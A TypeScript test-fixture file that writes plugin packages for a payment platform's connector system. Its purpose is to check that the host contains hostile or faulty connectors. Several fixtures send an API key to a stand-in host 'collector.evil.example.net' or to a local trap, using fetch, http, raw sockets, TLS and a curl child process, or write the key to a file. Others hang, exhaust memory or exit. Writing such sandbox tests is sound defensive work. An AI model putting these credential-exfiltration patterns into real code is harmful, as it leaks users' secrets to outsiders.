import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

/** The connector behaviours the fault tests need. */
export type FixtureKind =
  | 'good'
  | 'throws-on-import'
  | 'hangs'
  | 'throws-secret'
  | 'garbage'
  | 'undeclared-host'
  | 'global-fetch'
  | 'static-http'
  | 'dynamic-net'
  | 'require-tls'
  | 'child-process'
  | 'process-binding'
  | 'fs-write'
  | 'sync-loop'
  | 'allocates-1gb'
  | 'exits'
  | 'unhandled-rejection'
  | 'discovers'
  | 'dirty-text';

/** A secret the fixture connectors accept (the good one) or leak (the bad ones) if the host let them. */
export const FIXTURE_SECRET = 'key_FixtureSecretValue9Q7xLm2';

/** The id of the fixture connector of a kind. */
export function fixtureId(kind: FixtureKind): string {
  return `fx-${kind}`;
}

/** The API origin a fixture's manifest declares; map it to a simulator with egress overrides. */
export function fixtureOrigin(kind: FixtureKind): string {
  // `.test` (RFC 2606): never resolved, and not the scaffold's `.example`, which a ready manifest may not keep.
  return `https://api.${fixtureId(kind)}.test`;
}

function manifest(kind: FixtureKind): Record<string, unknown> {
  const host = new URL(fixtureOrigin(kind)).hostname;
  return {
    id: fixtureId(kind),
    name: `Fixture ${kind}`,
    status: 'ready',
    description: `A connector written outside the repository (${kind}).`,
    website: 'https://example.com',
    countries: ['UA'],
    paymentMethods: ['payment_card'],
    payoutMethods: ['bank_card'],
    paymentServices: [{ method: 'payment_card', currency: 'UAH' }],
    payoutServices: [{ method: 'bank_card', currency: 'UAH' }],
    environments: { sandbox: { label: 'Test', baseUrl: `https://${host}`, hosts: [host] } },
    credentials: {
      version: 1,
      schema: {
        type: 'object',
        required: ['apiKey'],
        properties: {
          merchantId: { type: 'string', title: 'Merchant ID', examples: ['m_123'] },
          apiKey: {
            type: 'string',
            title: 'API key',
            description: 'starts with key_ and at least 16 letters or digits',
            pattern: '^key_[A-Za-z0-9]{16,}$',
            writeOnly: true,
          },
        },
      },
    },
  };
}

const MODULES: Record<FixtureKind, string> = {
  good: `export default {
  manifest,
  async verify({ credentials }, ctx) {
    const res = await ctx.fetch(ctx.baseUrl + '/v1/account', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
    if (res.status === 401) return { ok: false, reason: 'invalid_credentials', message: 'The API key was refused', fields: ['apiKey'], retryable: false };
    const body = await res.json();
    return { ok: true, account: { id: body.id, name: body.name } };
  },
};`,
  'throws-on-import': `throw new Error('this connector cannot even be imported');
export default { manifest };`,
  hangs: `export default { manifest, verify: () => new Promise(() => {}) };`,
  'throws-secret': `export default {
  manifest,
  async verify({ credentials }, ctx) {
    ctx.logger.error('about to fail with ' + credentials.apiKey, { key: credentials.apiKey });
    throw new Error('the provider refused ' + credentials.apiKey);
  },
};`,
  garbage: `export default { manifest, async verify({ credentials }) { return { ok: 'sure', echo: credentials.apiKey }; } };`,
  'undeclared-host': `export default {
  manifest,
  async verify({ credentials }, ctx) {
    await ctx.fetch('https://collector.evil.example.net/keys?k=' + credentials.apiKey);
    return { ok: true };
  },
};`,
  'global-fetch': `export default { manifest, async verify({ credentials }) {
  await fetch('TRAP/keys?k=' + credentials.apiKey);
  return { ok: true };
} };`,
  'static-http': `import http from 'node:http';
export default { manifest, async verify({ credentials }) { http.get('TRAP/keys?k=' + credentials.apiKey); return { ok: true }; } };`,
  'dynamic-net': `export default { manifest, async verify({ credentials }) {
  const net = await import('node:net');
  net.connect(Number(new URL('TRAP').port), '127.0.0.1').end(credentials.apiKey);
  return { ok: true };
} };`,
  'require-tls': `import { createRequire } from 'node:module';
export default { manifest, async verify({ credentials }) {
  const tls = createRequire(import.meta.url)('node:tls');
  tls.connect(Number(new URL('TRAP').port), '127.0.0.1').end(credentials.apiKey);
  return { ok: true };
} };`,
  'child-process': `import { createRequire } from 'node:module';
export default { manifest, async verify({ credentials }) {
  createRequire(import.meta.url)('child_process').execSync('curl -s TRAP/keys?k=' + credentials.apiKey);
  return { ok: true };
} };`,
  'process-binding': `export default { manifest, async verify() { process.binding('tcp_wrap'); return { ok: true }; } };`,
  'fs-write': `import { writeFileSync } from 'node:fs';
export default { manifest, async verify({ credentials }) { writeFileSync('STOLEN', credentials.apiKey); return { ok: true }; } };`,
  'sync-loop': `export default { manifest, async verify() { const end = Date.now() + 5000; while (Date.now() < end) {} return { ok: true }; } };`,
  'allocates-1gb': `export default { manifest, async verify() {
  const keep = [];
  for (let i = 0; i < 1024; i++) keep.push(Buffer.alloc(1024 * 1024, 1));
  return { ok: true, account: { id: String(keep.length) } };
} };`,
  discovers: `export default {
  manifest,
  async verify({ credentials }, ctx) {
    const res = await ctx.fetch(ctx.baseUrl + '/v1/account', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
    if (res.status === 401) return { ok: false, reason: 'invalid_credentials', message: 'The API key was refused', fields: ['apiKey'], retryable: false };
    const body = await res.json();
    return { ok: true, account: body };
  },
  async discover({ credentials }, ctx) {
    const res = await ctx.fetch(ctx.baseUrl + '/v1/methods', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
    if (res.status !== 200) return { ok: false, reason: 'provider_unavailable', message: 'The methods could not be read', retryable: true };
    return res.json();
  },
};`,
  exits: `export default { manifest, async verify() { process.exit(3); } };`,
  // Text no database stores as is: NUL, control characters, a lone surrogate, an id too long to index.
  'dirty-text': `export default { manifest, async verify() {
    return { ok: true, account: { id: 'acct_\\u0000' + '界'.repeat(3000), name: 'Acme\\u0000 Trading\\u0007 \\ud800Ltd' } };
  } };`,
  'unhandled-rejection': `export default { manifest, async verify() {
  Promise.reject(new Error('nobody catches this'));
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { ok: true };
} };`,
};

/**
 * Writes connector packages (plain JavaScript, no dependencies: they live outside the workspace)
 * into `dir`, one folder per kind. `trap` is where the hostile ones try to send the secret,
 * `stolen` the file they try to write it to. Name `dir` in `PAYCORE_CONNECTOR_PATHS` / `connectorPaths`.
 */
export function writeFixtureConnectors(
  dir: string,
  kinds: readonly FixtureKind[],
  places: { trap?: string; stolen?: string } = {},
): void {
  for (const kind of kinds) {
    const pkg = join(dir, fixtureId(kind));
    mkdirSync(pkg, { recursive: true });
    writeFileSync(
      join(pkg, 'package.json'),
      JSON.stringify({
        name: `@outside/connector-${fixtureId(kind)}`,
        version: '1.0.0',
        type: 'module',
        paycore: { manifest: './manifest.json' },
        exports: './index.js',
      }),
    );
    writeFileSync(join(pkg, 'manifest.json'), JSON.stringify(manifest(kind), null, 2));
    writeFileSync(join(pkg, 'README.md'), `# Fixture ${kind}\n\nFind the API key under Settings → API.\n`);
    writeFileSync(
      join(pkg, 'index.js'),
      `import { readFileSync } from 'node:fs';
const manifest = JSON.parse(readFileSync(new URL('./manifest.json', import.meta.url), 'utf8'));
${MODULES[kind].replaceAll('TRAP', places.trap ?? 'http://127.0.0.1:9').replaceAll('STOLEN', places.stolen ?? join(dir, 'stolen.txt'))}
`,
    );
  }
}

/** A provider API for the good fixture: `GET /v1/account` accepts {@link FIXTURE_SECRET} only. */
export async function startAccountSimulator(): Promise<{ origin: string; close(): Promise<void> }> {
  const server = createServer((req, res) => {
    res.setHeader('content-type', 'application/json');
    if (req.headers.authorization === `Bearer ${FIXTURE_SECRET}`) {
      res.writeHead(200).end(JSON.stringify({ id: 'acct_fixture', name: 'Fixture Merchant' }));
    } else {
      res.writeHead(401).end(JSON.stringify({ error: 'unauthorized' }));
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
